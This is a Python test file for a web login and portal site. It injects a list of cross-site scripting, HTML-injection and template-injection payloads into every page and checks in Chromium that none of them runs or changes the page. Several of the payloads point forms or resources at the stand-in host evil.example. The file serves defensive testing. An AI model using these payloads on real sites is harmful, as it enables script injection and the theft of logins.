"""Whatever a page shows, it shows as text: to a strict reader, and to a real Chromium in which a script that ran would leave a mark."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from typing import TYPE_CHECKING, Any
from urllib.parse import quote, urlencode

import pytest

from tests.hardening.as_a_browser import addresses_in
from tests.oidc.provider import Provider
from tests.runtime.site import NATIVE, PUBLIC_URL, Answer, Browser, Site, portal

if TYPE_CHECKING:
    from playwright.sync_api import BrowserContext, ConsoleMessage, Page, Route

MARKUP = [
    "<script>ran=1</script>",
    "\"'><script>ran=1</script>",
    "\"'><img src=x onerror=ran=1>",
    "' onfocus=ran=1 autofocus onmouseover='ran=1",
    "\" onfocus=ran=1 autofocus tabindex=0 x=\"",
    "x onfocus=ran=1 autofocus",
    "</title></style></textarea></noscript><svg/onload=ran=1>",
    "<!--><script>ran=1</script>--><![CDATA[<script>ran=1</script>]]>",
    "<meta http-equiv=refresh content='0;url=javascript:ran=1'><base href=//evil.example/>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe><object data=javascript:ran=1>",
    "</form><form action=//evil.example><input name=token><button form=x formaction=//evil.example>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=ran=1>",
    "<link rel=stylesheet href=//evil.example/x.css><style>@import'//evil.example'</style>",
    "&lt;script&gt;ran=1&lt;/script&gt;&#60;script&#62;&NewLine;&colon;&amp;lt",
    "{{7*7}}{% set x=1 %}${7*7}#{7*7}<%= 7*7 %>{{ config }}{{''.__class__}}",
    "javascript:ran=1//%0aran=1",
    "+ADw-script+AD4-ran+AD0-1+ADw-/script+AD4-",
    "\u2028\u2029\u202e\ufeff<\u200bscript>\uff1cscript\uff1eran=1",
    "<a href='//evil.example' ping=//evil.example target=_blank>x</a><svg><use href=//evil.example#x>",
]  # fmt: skip
PLAIN = "words"
NOT_PLAYED = ("Set-Cookie", "Content-Length", "Strict-Transport-Security")


def pages(make_site: Callable[..., Site], provider: Provider, another: Provider, text: str) -> Iterator[tuple[str, Answer]]:
    """Every page of ours, with ``text`` in each value that it shows, by the address at which it was found."""
    provider.claims = dict.fromkeys(("name", "given_name", "family_name", "locale", "sid"), text)
    provider.userinfo = {}
    written = "".join(letter for letter in text if letter.isprintable())  # a profile takes nothing else
    site = make_site(
        provider,
        another,
        login={"mode": "ask_address", "fallback": "native"},
        branding={"name": f"Brand {written}"},
        support={"text": f"Ask {written}", "email": "help@acme.example", "url": "https://help.acme.example/it's/x"},
        portals=[portal("3", "HELP", f"IT {written}"), portal("4", "HR", f"People {written}", access=[{"deny": "everyone"}])],
    )
    browser = Browser(site)
    page = browser.get("/login")
    yield "/login", page
    yield "/login", browser.submit(page, email=text)
    yield "/login", browser.submit(page, email=text, return_to=text, token=text)
    for address in ("/", "/portal/HELP", "/portal/NONE", "/logout", "/logged-out", f"/{quote(text, safe='')}",
                    f"/portal/HELP/{quote(text)}",
                    f"/login?provider={quote(text)}", f"/login?choose=1&return_to={quote(text)}", "/portal/HELP?provider=b",
                    f"/callback?code={quote(text)}&state={quote(text)}", f"/callback/b?error={quote(text)}&state="):  # fmt: skip
        answer = browser.get(address)
        if answer.status != 302:
            yield address.partition("?")[0], answer
    for error in (text, "access_denied", "server_error"):
        away = browser.get("/login?provider=a&return_to=/portal/HELP").location
        state = away.partition("state=")[2].partition("&")[0]
        said = urlencode({"error": error, "error_description": text, "error_uri": text, "state": state, "iss": provider.issuer})
        yield "/callback", browser.get(f"/callback?{said}")
    address = browser.at_provider(browser.get("/login?provider=a&return_to=/portal/HELP").location)
    assert browser.get(address).status == 303
    yield "/callback", browser.get(address)  # a second time
    for address in ("/", "/portal/HR", "/portal/NONE", "/logout", "/servicedesk/customer/portals"):
        yield address, browser.get(address)
    browser.submit(browser.get("/portal/HR"), "another account")
    yield "/logged-out", browser.get("/logged-out")
    for refused in ({"email": "a'b\"<script>@acme.example"}, {"email_verified": False}, {"email": "o'brien&{{7*7}}@acme.example"}):
        provider.claims |= refused
        yield "/callback", browser.get(browser.at_provider(browser.get("/login?provider=a").location))
        yield "/", browser.get("/")


class _Shape(HTMLParser):
    """A page's elements and the names of their attributes, without what they say."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: list[Any] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, [name for name, _ in attrs]))

    def handle_endtag(self, tag: str) -> None:
        self.elements.append(f"/{tag}")

    def handle_comment(self, data: str) -> None:
        self.elements.append("comment")

    def unknown_decl(self, data: str) -> None:
        self.elements.append("declaration")


def shape(html: str) -> list[Any]:
    reader = _Shape()
    reader.feed(html)
    reader.close()
    return reader.elements


def test_no_text_changes_the_shape_of_a_page(make_site: Callable[..., Site], provider: Provider, another_provider: Provider) -> None:
    plain = [(address, answer.status, shape(answer.text)) for address, answer in pages(make_site, provider, another_provider, PLAIN)]
    assert len(plain) > 25
    for text in MARKUP:
        found = list(pages(make_site, provider, another_provider, text))
        assert len(found) == len(plain)
        for (expected_address, status, expected), (address, answer) in zip(plain, found, strict=True):
            assert answer.status == status, (address, text)
            assert expected_address == address or PLAIN in expected_address
            assert shape(answer.text) == expected, (address, text, answer.text)
            for one in addresses_in(answer.text):
                assert "evil" not in one.partition("?")[0], (address, one)
                assert one.startswith(("/", "#main", "mailto:help@acme.example", "https://help.acme.example/", NATIVE)), (address, one)


@pytest.mark.parametrize("with_policy", [True, False], ids=["with our policy", "without it"])
def test_no_text_runs_in_a_browser(
    make_site: Callable[..., Site], provider: Provider, another_provider: Provider, browser_context: BrowserContext, with_policy: bool
) -> None:
    """Without the Content-Security-Policy escaping alone must hold; with it, the policy must have nothing to refuse."""
    complaints: list[str] = []
    outside: list[str] = []
    shown: dict[str, Answer] = {}
    site = make_site(provider, another_provider)

    def fulfil(route: Route) -> None:
        url = route.request.url
        path = url.removeprefix(PUBLIC_URL)
        answer = shown.get(path) or (Browser(site).get(path) if path.startswith("/assets/") else None)
        if not url.startswith(PUBLIC_URL) or answer is None:
            outside.append(url)
            route.abort()
            return
        headers = {name: value for name, value in answer.headers if name not in NOT_PLAYED}
        if not with_policy:
            headers.pop("Content-Security-Policy")
        route.fulfill(status=answer.status, headers=headers, body=answer.body)

    def hear(message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text:
            complaints.append(message.text)

    page: Page = browser_context.new_page()
    page.on("console", hear)
    page.on("dialog", lambda dialog: complaints.append(dialog.message))
    page.on("pageerror", lambda error: complaints.append(str(error)))
    page.route("**/*", fulfil)
    plain = [dom_of(page, shown, one) for _, one in pages(make_site, provider, another_provider, PLAIN)]
    for text in MARKUP if with_policy else MARKUP[:12]:
        found = [dom_of(page, shown, one) for _, one in pages(make_site, provider, another_provider, text)]
        assert found == plain, text
    assert [one for one in complaints if "frame" not in one] == []
    assert outside == []


def dom_of(page: Page, shown: dict[str, Answer], answer: Answer) -> list[str]:
    """The elements that a browser makes of a page, with their attributes' names; nothing of it ran."""
    shown["/shown"] = answer
    page.goto(f"{PUBLIC_URL}/shown", wait_until="domcontentloaded")
    read: dict[str, Any] = page.evaluate(
        """() => ({
            ran: typeof window.ran,
            title: document.title.length > 0,
            elements: [...document.querySelectorAll('*')].map(
                one => one.tagName + ' ' + [...one.attributes].map(each => each.name).sort().join(' ')
            ),
        })"""
    )
    assert read["ran"] == "undefined", answer.text
    return list(read["elements"])
